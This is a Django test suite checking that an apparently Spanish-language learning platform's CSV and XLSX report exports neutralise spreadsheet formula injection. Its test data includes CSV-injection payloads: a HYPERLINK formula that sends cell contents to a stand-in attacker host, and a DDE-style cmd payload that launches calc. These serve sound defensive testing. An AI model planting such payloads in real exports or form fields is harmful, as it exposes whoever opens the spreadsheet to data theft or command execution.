"""Every spreadsheet export neutralises text a spreadsheet would run as a
formula (OWASP CSV injection): a leading apostrophe; numbers stay numbers.
Read back with the csv module and, for XLSX, with openpyxl."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.contrib.auth.models import Group
from django.utils import timezone

from cursos.models import RequiredTraining
from cursos.services.enrollment import enroll
from cursos.services.progress import complete_lesson
from cursos.services.quizzes import start_attempt, submit_attempt
from lms.accounts.models import STAFF_GROUP, Department
from lms.spreadsheet import safe_cell, safe_row
from tests.factories import (
    UserFactory,
    add_quiz,
    build_course,
    course_lessons,
    question,
    wrong_answers,
)

pytestmark = pytest.mark.django_db

HOSTILE = {
    '=HYPERLINK("http://ataque.example/?d="&A1;"Ver")': (
        '\'=HYPERLINK("http://ataque.example/?d="&A1;"Ver")'
    ),
    "+1": "'+1",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1": "'\t=1",
    "-2+3": "'-2+3",
    "\r=1": "'\r=1",
}
NAME = '=HYPERLINK("http://ataque.example/?d="&A1;"Ver")'
SAFE_NAME = HOSTILE[NAME]


@pytest.mark.parametrize(("raw", "safe"), list(HOSTILE.items()))
def test_safe_cell_prefixes_formula_text(raw, safe):
    assert safe_cell(raw) == safe


@pytest.mark.parametrize(
    "value", ["María Pérez", "", "a=b", " =1", "Q'eqchi'", None, -5, -2.5, 0, 12]
)
def test_safe_cell_leaves_other_values_alone(value):
    assert safe_cell(value) == value
    assert type(safe_cell(value)) is type(value)


def test_safe_row():
    assert safe_row(["=1", 3, "x"]) == ["'=1", 3, "x"]


def csv_rows(response):
    content = (
        b"".join(response.streaming_content) if response.streaming else response.content
    )
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_rows(response):
    content = b"".join(response.streaming_content)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def exports(client, url):
    csv_response = client.get(url, {"export": "csv"})
    xlsx_response = client.get(url, {"export": "xlsx"})
    assert csv_response.status_code == xlsx_response.status_code == 200
    return csv_rows(csv_response), xlsx_rows(xlsx_response)


@pytest.fixture
def hostile_course():
    """A course whose learner wrote formulas in every free-text field and
    failed a quiz whose title and question are formulas too."""
    course = build_course(modules=1, lessons=1, title="Diplomado")
    quiz = add_quiz(
        course,
        title="=1+1 evaluación",
        questions=[question(prompt="@SUM(A1) pregunta")],
        max_attempts=1,
    )
    user = UserFactory(
        full_name=NAME,
        institution_type="otra",
        institution_name="+1",
        post="otro",
        post_other="\t=1",
    )
    enrollment = enroll(user=user, course=course)
    attempt = start_attempt(enrollment=enrollment, quiz=quiz)
    submit_attempt(attempt=attempt, answers=wrong_answers(attempt))
    return course, quiz, enrollment


def test_course_learners_export(client, coordinator, hostile_course):
    course, _quiz, _enrollment = hostile_course
    client.force_login(coordinator)
    for rows in exports(client, f"/admin/informes/cursos/{course.pk}/"):
        (row,) = rows
        assert row["Nombre"] == SAFE_NAME
        # Prefixed with the kind of institution, so already inert.
        assert row["Institución"] == "Otra institución: +1"
        assert row["Cargo"] == "'\t=1"


def test_quiz_reports_export(client, coordinator, hostile_course):
    _course, quiz, _enrollment = hostile_course
    client.force_login(coordinator)
    base = "/admin/informes/evaluaciones/"
    for rows in exports(client, f"{base}{quiz.pk}/"):
        (row,) = rows
        assert row["Nombre"] == SAFE_NAME
        assert float(row["Intentos usados"]) == 1  # a number, not text
    csv_quizzes, xlsx_quizzes = exports(client, base)
    assert csv_quizzes[0]["Evaluación"] == "'=1+1 evaluación"
    assert xlsx_quizzes[0]["Evaluación"] == "'=1+1 evaluación"
    assert xlsx_quizzes[0]["Intentos"] == 1  # still a number in XLSX
    for rows in exports(client, f"{base}{quiz.pk}/preguntas/"):
        assert rows[0]["Pregunta"] == "'@SUM(A1) pregunta"


def test_compliance_exports(client, coordinator):
    group = Group.objects.get(name=STAFF_GROUP)
    course = build_course(title="Inducción", modules=1, lessons=1, audience="infom")
    RequiredTraining.objects.create(
        course=course,
        group=group,
        due_on=timezone.localdate() + datetime.timedelta(days=5),
    )
    UserFactory(
        full_name="@Persona",
        institution_type="infom",
        institution_name="-Unidad=1",
        groups_by_name=(STAFF_GROUP,),
    )
    client.force_login(coordinator)
    for rows in exports(client, "/admin/informes/cumplimiento/"):
        (row,) = rows
        assert row["Nombre"] == "'@Persona" and row["Unidad"] == "'-Unidad=1"
    for rows in exports(client, "/admin/informes/cumplimiento/unidades/"):
        assert rows[0]["Unidad"] == "'-Unidad=1"


def test_certificate_registry_export(
    client, coordinator, django_capture_on_commit_callbacks
):
    from certificados.models import Certificate

    course = build_course(modules=1, lessons=1, title="=Curso")
    enrollment = enroll(user=UserFactory(full_name=NAME), course=course)
    with django_capture_on_commit_callbacks(execute=True):
        complete_lesson(enrollment=enrollment, lesson=course_lessons(course)[0])
    certificate = Certificate.objects.get(enrollment=enrollment)
    client.force_login(coordinator)
    for rows in exports(client, "/admin/registro-certificados/"):
        (row,) = rows
        assert row["Nombre"] == SAFE_NAME and row["Curso"] == "'=Curso"
        assert row["Código"] == certificate.display_code


def test_open_data_csv(client):
    from home.models import TransparencyPage
    from tests.factories import _home

    Department.objects.create(code="99", name="=Departamento")
    page = TransparencyPage(title="Datos abiertos", slug="datos-abiertos")
    _home().add_child(instance=page)
    page.save_revision().publish()
    response = client.get(f"{page.url}csv/", follow=True)
    assert response.status_code == 200
    rows = csv_rows(response)
    row = next(r for r in rows if r["codigo_ine"] == "99")
    assert row["departamento"] == "'=Departamento"
    assert row["inscritas"] == "0"
